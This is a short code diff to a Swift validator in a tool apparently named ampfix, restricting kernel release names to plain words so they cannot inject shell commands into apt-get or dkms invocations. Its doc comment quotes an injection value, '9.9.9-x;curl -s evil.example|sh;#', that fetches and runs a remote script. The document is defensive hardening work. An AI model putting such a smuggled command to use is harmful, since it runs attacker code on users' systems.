@@ -1,8 +1,11 @@
-/// A kernel release names a directory under /lib/modules: a plain name, never a path.
+/// A kernel release names a directory under /lib/modules and goes into package names and
+/// commands ampfix prints or runs (`apt-get install -y linux-headers-RELEASE`, `dkms build -k
+/// RELEASE`): one plain word, never a path, an option or anything a shell would split or run —
+/// letters, digits and . _ + ~ -, not first a dot or a dash. An entry of /lib/modules that is
+/// not one (`9.9.9-x;curl -s evil.example|sh;#`) is passed over, and --kernel refuses it.
 public enum KernelRelease {
     public static func isValid(_ release: String) -> Bool {
-        !release.isEmpty && release != "." && release != ".." && !release.contains("/") && release.utf8.count <= 255
-            && !release.unicodeScalars.contains { $0.value < 0x20 || $0.value == 0x7f }
+        ModuleSource.isWord(release, maximumLength: 128, also: "._+~-")
     }
 }
 
